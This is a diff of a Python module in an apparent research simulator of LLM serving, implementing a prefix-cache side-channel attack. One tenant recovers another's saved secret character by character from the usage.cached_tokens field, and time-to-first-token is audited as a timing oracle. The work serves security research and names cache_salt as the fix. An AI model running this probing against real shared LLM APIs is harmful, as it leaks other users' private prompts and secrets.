@@ -1,23 +1,14 @@
-"""The prefix-probe scenario: reading another tenant's prompt through the prefix cache.
+"""The prefix probe: another tenant's prompt read back through `usage.cached_tokens`.
 
-Alice saves a key: `alice: save key <secret>.\\n`. Her request finishes; its prompt pages stay in
-the prefill node's prefix cache (parked, matchable). Mallory, another tenant with nothing but
-the public API, knows the note format and alice's name, so she knows how alice's prompt starts.
-She sends, one round per character, a probe for every character the secret could hold next:
+Alice's prompt stays in the prefix cache after her request ends. Mallory knows how it starts, so
+each round she sends a probe for every character that could come next:
 
     alice: save key s\\n      cached_tokens = 17 -> "s" is right: it was in the cache
     alice: save key t\\n      cached_tokens = 16 -> only the part she already knew
 
-With 1-token pages (SGLang's default) each round costs one probe per symbol and the usage field
-answers exactly, so the secret comes out character by character (Song et al., "The Early Bird
-Catches the Leak", arXiv 2409.20002; Wu et al., PromptPeek, NDSS 2025). With larger pages a hit
-needs the *whole* page right, so a round guesses every unknown character of the next page at
-once: the cost grows as symbols ** characters-per-page, which slows the attack but does not
-stop it for short secrets. Only `cache_salt` stops it: salted keys never match across tenants.
-
-Everything here uses the front door only (`submit`, and the responses `run` hands over), so the same attack
-runs against the single-node `Engine` and the disaggregated `Cluster`. Positions are counted in
-characters: the shipped tokenizer has one token per character.
+At 1-token pages (SGLang's default) the secret comes out a character a round (Song et al., arXiv
+2409.20002; Wu et al., PromptPeek, NDSS 2025); larger pages make a round guess a whole page:
+slower, not closed. Only `cache_salt` stops it. Positions are characters (one token each).
 """
 
 from __future__ import annotations
@@ -27,75 +18,76 @@ import random
 import time
 from collections.abc import Callable
 from dataclasses import dataclass
-from typing import Protocol
 
-from minikv.disagg.cluster import ClusterConfig
-from minikv.engine.request import Request
-from minikv.engine.request import Response
 from minikv.attacks.workload import MAX_SECRET_CHARS, SECRET_ALPHABET, Note, note_prompt
+from minikv.disagg.cluster import ClusterConfig
+from minikv.engine.front_door import FrontDoor
+from minikv.engine.request import Request, Response
 
 VICTIM, ATTACKER = "alice", "mallory"
 KNOWN_PREFIX = f"{VICTIM}: save key "  # what mallory knows: the note format and alice's name
 AFTER_SECRET = ".\n"  # how the note goes on after the secret
 PROBE_END = "\n"  # one token after the guess: the engine always computes a prompt's last token
-# The pair at 1-token pages: pools of 2,048 and 4,096 tokens (>= the 1,024-token window) and a
-# fabric fast enough that no probe's transfer times out.
+# 1-token pages, pools of 2,048 and 4,096 tokens (>= the window), a fabric on which no probe times out
 PROBE_CONFIG = ClusterConfig(page_size=1, prefill_pages=2048, decode_pages=4096, transfer_pages_per_tick=64)
 
 # which of these probe prompts found the cache holding at least `hit_at` of their tokens?
 Oracle = Callable[[list[str], int], list[bool]]
 
 
-class Server(Protocol):
-    """What the attack needs from a serving front door: Engine and Cluster both have it."""
+@dataclass
+class ProbeOutcome:
+    """The victim's answer, the attacker's last, what she recovered, the requests it took and how long."""
 
-    def submit(self, request: Request) -> str: ...
-
-    def run(self) -> list[Response]: ...
+    victim: Response
+    attacker: Response | None
+    recovered: str
+    probes: int  # requests the attacker sent
+    seconds: float = 0.0  # the attack's wall time, the victim's first request excluded
+    cycles: int | None = None  # timing oracle only: flush-refresh-probe cycles
 
 
 def victim_prompt(secret: str) -> str:
     return note_prompt(VICTIM, Note("key", secret))
 
 
-def page_guesses(fill: int, alphabet: str = SECRET_ALPHABET, after: str = AFTER_SECRET) -> list[str]:
+def page_guesses(fill: int, alphabet: str = SECRET_ALPHABET) -> list[str]:
     """Every way the next `fill` characters of the victim's prompt can read: `k` more secret
     characters, then (if the secret ends inside them) the start of what follows it."""
     guesses = []
     for k in range(fill, -1, -1):
         rest = fill - k
-        if rest > len(after):
+        if rest > len(AFTER_SECRET):
             continue  # the prompt would end before the page does: a partial page is never cached
-        guesses += ["".join(chars) + after[:rest] for chars in itertools.product(alphabet, repeat=k)]
+        guesses += ["".join(chars) + AFTER_SECRET[:rest] for chars in itertools.product(alphabet, repeat=k)]
     return guesses
 
 
-def recover_secret(oracle: Oracle, page_size: int, known: str = KNOWN_PREFIX, alphabet: str = SECRET_ALPHABET,
-                   after: str = AFTER_SECRET, max_chars: int = MAX_SECRET_CHARS) -> tuple[str, int]:
-    """(what the oracle gave away, probes sent): extend `known` one page at a time.
-
-    A round guesses the characters up to the next page boundary; a probe hits when the cache
-    holds its tokens through that boundary. No hit, or more than one, ends the attack.
-    """
-    assert not set(after[:1]) & set(alphabet), "the end marker must not be a secret character"
+def recover_secret(oracle: Oracle, page_size: int, known: str = KNOWN_PREFIX,
+                   alphabet: str = SECRET_ALPHABET) -> tuple[str, int]:
+    """(what the oracle gave away, probes sent): extend `known` one page at a time. A round guesses
+    the characters up to the next page boundary; a probe hits when the cache holds its tokens
+    through that boundary. No hit, or more than one, ends the attack."""
+    end = AFTER_SECRET[0]
+    assert end not in alphabet, "the end marker must not be a secret character"
     recovered, probes = "", 0
-    while len(recovered) <= max_chars:
+    while len(recovered) <= MAX_SECRET_CHARS:
         pos = len(known) + len(recovered)
         boundary = (pos // page_size + 1) * page_size
-        guesses = page_guesses(boundary - pos, alphabet, after)
+        guesses = page_guesses(boundary - pos, alphabet)
         hits = [g for g, hit in zip(guesses, oracle([known + recovered + g + PROBE_END for g in guesses], boundary)) if hit]
         probes += len(guesses)
         if len(hits) != 1:
             return recovered, probes
-        if after[0] in hits[0]:  # the guess ran past the secret's end: done
-            return recovered + hits[0][: hits[0].index(after[0])], probes
+        if end in hits[0]:  # the guess ran past the secret's end: done
+            return recovered + hits[0][: hits[0].index(end)], probes
         recovered += hits[0]
     return recovered, probes
 
 
-def send_probes(server: Server, prompts: list[str], tenant: str) -> list[Response]:
-    """Submit `prompts` together as `tenant`'s requests (one output token each), run the server
-    until they are answered, and return the answers in prompt order; any answer but 200 raises."""
+def send_probes(server: FrontDoor, prompts: list[str], tenant: str) -> list[Response]:
+    """`tenant`'s answers to `prompts` (one output token each), submitted together, in prompt order;
+    any answer but 200 raises."""
     ids = [server.submit(Request(p, tenant, max_tokens=1)) for p in prompts]
     answered = {r.request_id: r for r in server.run()}
     answers = [answered[i] for i in ids]
@@ -105,13 +97,12 @@ def send_probes(server: Server, prompts: list[str], tenant: str) -> list[Respons
     return answers
 
 
-def cached_tokens_oracle(server: Server, tenant: str = ATTACKER, seen: list[Response] | None = None) -> Oracle:
-    """Send the probes as ordinary requests of `tenant` (one output token each) and read
-    `usage.cached_tokens`: the deterministic oracle an OpenAI-style API hands out. Every answer
-    is appended to `seen` when given."""
+def cached_tokens_oracle(server: FrontDoor, seen: list[Response] | None = None) -> Oracle:
+    """Send the probes as mallory's ordinary requests and read `usage.cached_tokens`: the exact
+    oracle an OpenAI-style API hands out. Every answer is appended to `seen` when given."""
 
     def ask(prompts: list[str], hit_at: int) -> list[bool]:
-        answers = send_probes(server, prompts, tenant)
+        answers = send_probes(server, prompts, ATTACKER)
         if seen is not None:
             seen.extend(answers)
         return [r.usage.cached_tokens >= hit_at for r in answers]
@@ -119,33 +110,18 @@ def cached_tokens_oracle(server: Server, tenant: str = ATTACKER, seen: list[Resp
     return ask
 
 
-@dataclass
-class ProbeOutcome:
-    """The victim's answer, what the attacker recovered, the requests it took and how long."""
-
-    victim: Response
-    last_probe: Response | None
-    recovered: str
-    probes: int  # requests the attacker sent
-    seconds: float = 0.0  # the attack's wall time, the victim's first request excluded
-    cycles: int | None = None  # timing oracle only: flush-refresh-probe cycles
-
-
-def victim_saves(server: Server, secret: str) -> Response:
+def victim_saves(server: FrontDoor, secret: str) -> Response:
     """Alice saves `secret` (her first request): the note the attacker is after."""
     alice = server.submit(Request(victim_prompt(secret), VICTIM, 32, request_id="alice-1"))
-    [victim] = [r for r in server.run() if r.request_id == alice]
-    return victim
+    return next(r for r in server.run() if r.request_id == alice)
 
 
-def probe_attack(server: Server, secret: str, page_size: int, alphabet: str = SECRET_ALPHABET) -> ProbeOutcome:
+def probe_attack(server: FrontDoor, secret: str, page_size: int, alphabet: str = SECRET_ALPHABET) -> ProbeOutcome:
     """Alice saves `secret`; then mallory probes the cache through `usage.cached_tokens`."""
     victim = victim_saves(server, secret)
-    start = time.perf_counter()
-    probes_answered: list[Response] = []
-    recovered, probes = recover_secret(cached_tokens_oracle(server, seen=probes_answered), page_size, alphabet=alphabet)
-    return ProbeOutcome(victim, probes_answered[-1] if probes_answered else None, recovered, probes,
-                        time.perf_counter() - start)
+    start, seen = time.perf_counter(), []
+    recovered, probes = recover_secret(cached_tokens_oracle(server, seen), page_size, alphabet=alphabet)
+    return ProbeOutcome(victim, seen[-1] if seen else None, recovered, probes, time.perf_counter() - start)
 
 
 # -- timing: the audit of Gu et al. -------------------------------------------------------------
@@ -157,24 +133,15 @@ def random_letters_prompt(rng: random.Random, num_chars: int) -> str:
     return " ".join(words)[: num_chars - 1] + "\n"
 
 
-def time_to_first_token(server: Server, prompt: str, tenant: str) -> float:
-    """Send `prompt` alone and return its time to first token, as a client measures it."""
-    [answer] = send_probes(server, [prompt], tenant)
-    return answer.ttft_s
-
-
-def timing_audit(server: Server, rng: random.Random, samples: int, prompt_chars: int = 400) -> tuple[list[float], list[float]]:
-    """Gu et al.'s two procedures, interleaved so that a busy machine slows both alike.
-
-    hit:  the victim sends a fresh random prompt, then the attacker sends the same one;
-    miss: the attacker sends a fresh random prompt nobody has sent.
-    Returns the attacker's times to first token (hit, miss). If the cache is shared across
-    tenants, hits are faster and a two-sample test (Kolmogorov-Smirnov) tells the two apart.
-    """
+def timing_audit(server: FrontDoor, rng: random.Random, samples: int, prompt_chars: int = 400) -> tuple[list[float], list[float]]:
+    """The attacker's times to first token (hit, miss) of Gu et al.'s two procedures, interleaved so
+    that a busy machine slows both alike. hit: the victim sends a fresh random prompt, then the
+    attacker the same one; miss: the attacker sends one nobody has sent. On a cache shared across
+    tenants hits are faster, and a two-sample test (Kolmogorov-Smirnov) tells the two apart."""
     hit, miss = [], []
     for _ in range(samples):
         shared = random_letters_prompt(rng, prompt_chars)
-        time_to_first_token(server, shared, VICTIM)
-        hit.append(time_to_first_token(server, shared, ATTACKER))
-        miss.append(time_to_first_token(server, random_letters_prompt(rng, prompt_chars), ATTACKER))
+        send_probes(server, [shared], VICTIM)
+        hit.append(send_probes(server, [shared], ATTACKER)[0].ttft_s)
+        miss.append(send_probes(server, [random_letters_prompt(rng, prompt_chars)], ATTACKER)[0].ttft_s)
     return hit, miss
